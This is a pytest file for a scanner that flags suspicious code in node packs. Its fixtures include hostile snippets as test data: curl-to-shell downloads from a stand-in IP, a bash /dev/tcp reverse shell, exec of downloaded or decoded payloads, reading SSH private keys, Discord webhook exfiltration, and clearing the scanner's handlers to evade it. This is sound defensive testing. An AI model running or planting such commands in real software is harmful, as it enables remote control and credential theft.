"""What reading a pack finds, and what it does not make of harmless code."""

from __future__ import annotations

import base64
import marshal
import zlib
from pathlib import Path

import pytest

from comfygov.trial import reading

CODE = "import os, socket\nos.system('curl http://198.51.100.7/x | sh')\n"
PACKED = base64.b64encode(zlib.compress(CODE.encode())).decode()
PLAIN = base64.b64encode(CODE.encode()).decode()
COMPILED = base64.b64encode(marshal.dumps(compile(CODE * 3, "x", "exec"))).decode()
PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
WORDS = base64.b64encode(b"a text that says in many words what it is for, and which is no code at all").decode()

BAD = {
    "exec-decoded": (f"import base64\nexec(base64.b64decode({WORDS!r}))", 2, "runs_decoded"),
    "exec-variable": ("from base64 import b64decode as b\ndata = b(x)\neval(data)", 3, "runs_decoded"),
    "exec-hex": ("exec(bytes.fromhex(where))", 1, "runs_decoded"),
    "exec-download": ("import requests\ntext = requests.get(url).text\nexec(text)", 3, "runs_downloaded"),
    "exec-urlopen": (
        "import urllib.request as r\nwith r.urlopen(url) as f:\n    exec(compile(f.read(), 'x', 'exec'))",
        3,
        "runs_downloaded",
    ),
    "marshal": ("import marshal\nexec(marshal.loads(data))", 2, "runs_decoded"),
    "pickle-download": (
        "import pickle, urllib.request\npickle.loads(urllib.request.urlopen(url).read())",
        2,
        "runs_downloaded",
    ),
    "blob": (f"x = 1\ny = '{PLAIN}'", 2, "hidden_code"),
    "blob-packed": (f"y = '{PACKED}'", 1, "hidden_code"),
    "blob-in-parts": (f"y = '{PLAIN[:40]}' + '{PLAIN[40:]}'", 1, "hidden_code"),
    "blob-hex": (f"y = '{CODE.encode().hex()}'", 1, "hidden_code"),
    "blob-compiled": (f"y = '{COMPILED}'", 1, "hidden_code"),
    "blob-twice": (f"y = '{base64.b64encode(PLAIN.encode()).decode()}'", 1, "hidden_code"),
    "getattr": ("import os\ngetattr(os, 'sys' + 'tem')('ls')", 2, "hidden_process"),
    "import-call": ("__import__('os').system('ls')", 1, "hidden_process"),
    "no-window": ("import subprocess as s\ns.Popen(['x'], creationflags=0x08000000)", 2, "hidden_process"),
    "detached": ("import subprocess\nsubprocess.Popen(['x'], start_new_session=True)", 2, "hidden_process"),
    "pipe-to-shell": ("import os\nos.system('curl -s http://h/x | bash')", 2, "hidden_process"),
    "reverse-shell": ("c = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", 1, "hidden_process"),
    "pip-at-import": (
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        2,
        "installs_at_import",
    ),
    "pip-in-function": (
        "import os\ndef need(name):\n    os.system('pip install ' + name)\ndef start():\n    need('x')\nstart()",
        3,
        "installs_at_import",
    ),
    "pip-by-name": (
        "import subprocess\nPIP = ['python', '-m', 'pip', 'install']\nsubprocess.run(PIP + ['x'])",
        3,
        "installs_at_import",
    ),
    "pip-main": ("import pip\npip.main(['install', 'x'])", 2, "installs_at_import"),
    "ssh": ("import os\np = os.path.expanduser('~/.ssh/id_rsa')", 2, "secrets"),
    "webhook": ("url = 'https://discord.com/api/webhooks/1/x'", 1, "sends_away"),
    "pth": ("import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w')", 2, "startup_code"),
    "evades": ("import sys\nsys.modules['comfygov_inside']._HANDLERS.clear()", 2, "evades"),
    "letters": ("exec(''.join([" + ",".join(f"chr({n})" for n in range(40, 60)) + "]))", 1, "obfuscated"),
    "mangled": ("\n".join(f"_0x{n:04x}1 = {n}" for n in range(6)), 1, "obfuscated"),
    "pyarmor": ("from pyarmor_runtime_000000 import __pyarmor__", 1, "obfuscated"),
    "deep": ("x = " + "-" * 100_000 + "1", 0, "obfuscated"),
}


def found(tmp_path: Path, code: str, name: str = "nodes.py") -> reading.Reading:
    (tmp_path / name).write_text(code)
    return reading.read(tmp_path)


@pytest.mark.parametrize(("code", "line", "rule"), BAD.values(), ids=BAD)
def test_a_careful_reader_stops_at(tmp_path: Path, code: str, line: int, rule: str) -> None:
    findings = found(tmp_path, code).findings
    assert (line, rule) in [(finding.line, finding.rule) for finding in findings], findings


@pytest.mark.parametrize(
    "code",
    [
        f"ICON = '{PICTURE}'",
        f"TEXT = '{WORDS}'",
        "import base64\npicture = base64.b64decode(given)\nopen('x', 'wb').write(picture)",
        "import requests\ndata = requests.get(url).json()\nprint(eval('1 + 1'))",
        "import subprocess\ndef run():\n    subprocess.run(['ffmpeg', '-i', path])",
        "def advice():\n    print('pip install x')",
        "import subprocess, sys\ndef update():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
        "checkpoint = torch.load('model.pth')",
        "name = getattr(torch, kind)",
        "HASH = 'd41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e'",
        "\n".join(f"DATA_{n} = {list(range(200))}" for n in range(20)),
    ],
)
def test_harmless_code_is_no_finding(tmp_path: Path, code: str) -> None:
    assert found(tmp_path, code).findings == ()


def test_an_install_script_may_install(tmp_path: Path) -> None:
    assert not found(tmp_path, "import os\nos.system('pip install x')", "install.py").findings


def test_files_that_say_by_themselves_what_they_are(tmp_path: Path) -> None:
    (tmp_path / "x.pth").write_text("import os")
    (tmp_path / "y.pyc").write_bytes(b"\0" * 20)
    rules = {finding.file: finding.rule for finding in found(tmp_path, "").findings}
    assert rules == {"x.pth": "startup_code", "y.pyc": "obfuscated"}


def test_imports_say_whether_they_may_fail(tmp_path: Path) -> None:
    code = (
        "import numpy as np, os.path\nfrom . import mine\ntry:\n    import cv2\nexcept ImportError:\n    cv2 = None\n"
        "def late():\n    from scipy import ndimage\n"
    )
    imports = {entry.module: (entry.line, entry.optional) for entry in found(tmp_path, code).imports}
    assert imports == {"numpy": (1, False), "os.path": (1, False), "cv2": (4, True), "scipy": (8, True)}


def test_a_link_out_of_the_pack_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "elsewhere.py").write_text("import os\nos.system('curl http://h | sh')")
    (tmp_path / "pack").mkdir()
    (tmp_path / "pack" / "a.py").symlink_to(tmp_path / "elsewhere.py")
    assert reading.read(tmp_path / "pack").findings == ()


def test_a_pack_that_is_one_file_is_read(tmp_path: Path) -> None:
    (tmp_path / "one.py").write_text("import base64, mine\nexec(base64.b64decode('cGFzcw=='))")
    read = reading.read(tmp_path / "one.py")
    assert [(finding.file, finding.line) for finding in read.findings] == [("one.py", 2)]
    assert {entry.module for entry in read.imports} == {"base64", "mine"}
